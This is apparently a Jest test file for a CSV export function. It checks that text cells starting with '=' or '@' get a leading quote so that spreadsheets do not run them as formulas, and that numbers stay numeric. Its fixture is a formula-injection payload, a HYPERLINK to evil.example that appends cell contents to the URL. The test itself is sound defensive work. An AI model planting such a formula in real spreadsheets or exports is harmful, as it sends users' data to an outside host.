import { toCsv } from './export-files';

const EVIL = '=HYPERLINK("https://evil.example/?d="&A2&B2,"Sanne")';

describe('analytics CSV (#22: formula injection)', () => {
  it('writes a text cell that a spreadsheet would run as a formula with a leading quote; numbers stay numbers', () => {
    const csv = toCsv({
      columns: [
        { name: 'Klanttype', label: 'Soort cliënt', kind: 'text', definition: '' },
        { name: 'Aandeel', label: 'Aandeel', kind: 'share', definition: '' },
        { name: 'Verschil', label: 'Verschil', kind: 'number', definition: '' },
      ],
      rows: [
        [EVIL, 0.5, -0.25],
        ['@SUM(A1)', 1, -3],
      ],
    }).toString('utf8');
    const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
    // By hand: the header as is; each formula-like text cell behind a quote; -0,25 and -3 are numbers.
    expect(lines.slice(0, 3)).toEqual([
      'Klanttype;Aandeel;Verschil',
      `"'=HYPERLINK(""https://evil.example/?d=""&A2&B2,""Sanne"")";0,5;-0,25`,
      "'@SUM(A1);1;-3",
    ]);
  });
});
